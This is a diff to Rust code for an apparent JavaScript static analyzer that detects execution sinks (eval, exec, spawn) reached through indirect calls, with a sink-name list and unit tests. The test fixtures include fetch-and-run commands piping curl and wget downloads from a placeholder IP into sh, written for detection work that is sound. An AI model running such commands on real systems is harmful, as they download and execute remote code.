@@ -17,27 +17,44 @@ impl<'t> Walker<'t, '_> {
         function: Node<'t>,
         arguments: Node<'t>,
     ) -> Option<(Node<'t>, Vec<Node<'t>>)> {
-        if function.kind() != "member_expression" {
-            return None;
-        }
-        let object = function.field_child("object")?;
-        let property = self.src(function.field_child("property")?);
         let mut cursor = arguments.walk();
         let list: Vec<Node<'t>> = arguments
             .named_children(&mut cursor)
             .filter(|a| a.kind() != "comment")
             .collect();
-        let (target, passed) = match (self.src(object), property) {
-            ("Reflect", "apply") => (*list.first()?, array_items(*list.get(2)?)?),
-            (_, "call") => (object, list.get(1..).map(<[_]>::to_vec).unwrap_or_default()),
-            (_, "apply") => (
-                object,
-                match list.get(1) {
-                    Some(array) => array_items(*array)?,
-                    None => Vec::new(),
-                },
-            ),
-            _ => return None,
+        let helper = match function.kind() {
+            "member_expression" => {
+                let object = function.field_child("object")?;
+                let property = self.src(function.field_child("property")?);
+                match (self.src(object), property) {
+                    ("Reflect", "apply") => Some((*list.first()?, array_items(*list.get(2)?)?)),
+                    // `Function.prototype.call.call(f, that, a)`, `Function.prototype.apply.call(f, that,
+                    // [a])`: the helper itself called through `call`.
+                    (o, "call") if o.ends_with(".call") => Some((
+                        *list.first()?,
+                        list.get(2..).map(<[_]>::to_vec).unwrap_or_default(),
+                    )),
+                    (o, "call") if o.ends_with(".apply") => {
+                        Some((*list.first()?, array_items(*list.get(2)?)?))
+                    }
+                    (_, "call") => {
+                        Some((object, list.get(1..).map(<[_]>::to_vec).unwrap_or_default()))
+                    }
+                    (_, "apply") => Some((
+                        object,
+                        match list.get(1) {
+                            Some(array) => array_items(*array)?,
+                            None => Vec::new(),
+                        },
+                    )),
+                    _ => None,
+                }
+            }
+            _ => None,
+        };
+        let (target, passed) = match helper {
+            Some(found) => found,
+            None => self.passed_along(&list)?,
         };
         let Some(Value::Name { path, .. }) = self.eval(target, 0) else {
             return None;
@@ -47,6 +64,40 @@ impl<'t> Walker<'t, '_> {
             || calls::classify(&path, false).is_some();
         sink.then_some((target, passed))
     }
+}
+
+impl<'t> Walker<'t, '_> {
+    /// A function handed to any other call as a value, with the arguments after it: `call(eval, code)`,
+    /// `setTimeout(cp.exec, 0, line)` runs `cp.exec(0, line)` in shape, `retry(cp.execSync, line)`. Only an
+    /// argument whose last name is one a sink has is evaluated, so ordinary calls cost a text look.
+    fn passed_along(&mut self, list: &[Node<'t>]) -> Option<(Node<'t>, Vec<Node<'t>>)> {
+        let at = list.iter().position(|a| {
+            matches!(a.kind(), "identifier" | "member_expression")
+                && SINK_NAMES.contains(&last_name(self.src(*a)))
+        })?;
+        let passed = list.get(at + 1..)?.to_vec();
+        (!passed.is_empty()).then(|| (list[at], passed))
+    }
+}
+
+/// The last names of the functions that run code or commands (the sink is confirmed by evaluation).
+pub(super) const SINK_NAMES: &[&str] = &[
+    "eval",
+    "Function",
+    "exec",
+    "execSync",
+    "execFile",
+    "execFileSync",
+    "spawn",
+    "spawnSync",
+    "fork",
+    "runInThisContext",
+    "runInNewContext",
+];
+
+/// `cp.execSync` → `execSync`.
+pub(super) fn last_name(text: &str) -> &str {
+    text.rsplit('.').next().unwrap_or(text).trim()
 }
 
 /// The items of an array literal, with no spread.
@@ -87,6 +138,35 @@ mod tests {
                 "{want}: {found:?}"
             );
         }
+    }
+
+    #[test]
+    fn a_sink_handed_on_as_a_value_renders_as_called() {
+        let found = javascript(concat!(
+            "const m = require('child_process');\n",
+            "Function.prototype.call.call(m.execSync, m, 'curl -s http://203.0.113.7/x | sh');\n",
+            "Function.prototype.apply.call(m.exec, m, ['wget -qO- http://203.0.113.7/y | sh']);\n",
+            "const run = (f, ...a) => f(...a);\n",
+            "run(m.spawn, 'sh', ['-c', 'id']);\n",
+        ));
+        for want in [
+            "m.execSync('curl -s http://203.0.113.7/x | sh')",
+            "m.exec('wget -qO- http://203.0.113.7/y | sh')",
+            "m.spawn('sh', ['-c', 'id'])",
+        ] {
+            assert!(found.iter().any(|r| r == want), "{want}: {found:?}");
+        }
+    }
+
+    #[test]
+    fn values_that_are_not_sinks_are_not_forwarded() {
+        let found = javascript(concat!(
+            "const exec = (re, s) => re.exec(s);\n",
+            "items.map(eval);\n",
+            "retry(fetchJson, url, 3);\n",
+            "Function.prototype.call.call(console.log, console, 'x');\n",
+        ));
+        assert!(found.is_empty(), "{found:?}");
     }
 
     #[test]
